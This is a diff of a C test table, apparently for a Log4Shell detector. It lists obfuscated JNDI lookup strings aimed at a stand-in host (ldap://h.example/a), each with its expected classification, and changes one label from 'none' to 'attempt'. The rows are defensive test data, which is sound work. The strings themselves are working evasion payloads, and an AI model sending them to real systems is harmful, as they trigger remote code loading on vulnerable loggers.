@@ -79,7 +79,7 @@ static void hidden_characters(void **state)
         ROW("${${base64:ag==:-j}ndi:ldap://h.example/a}", "exploit", .fires = FIRES_2_8),
         ROW("${${main:x:-J}nd${spring:y:-i}${web:z:-:}${docker:c:-ldap}://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
         ROW("${${log4j:x:-j}${marker:y:-n}${bundle:a:b:-d}${map:z:-i}:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
-        ROW("${${java:x:-j}ndi:ldap://h.example/a}", "none"), /* throws where java: is known, and old releases expand no names */
+        ROW("${${java:x:-j}ndi:ldap://h.example/a}", "attempt"), /* throws where java: is known, and old releases expand no names */
         ROW("${${aB:cD:E:f:-j}n${G::h:-d}i${:-:}ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
         ROW("${${env:A:-${env:B:-${sys:C:-j}}}ndi:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
         ROW("${j${::-}n${::-}di:ldap://h.example/a}", "exploit", .indicators = H, .fires = FIRES_2_8),
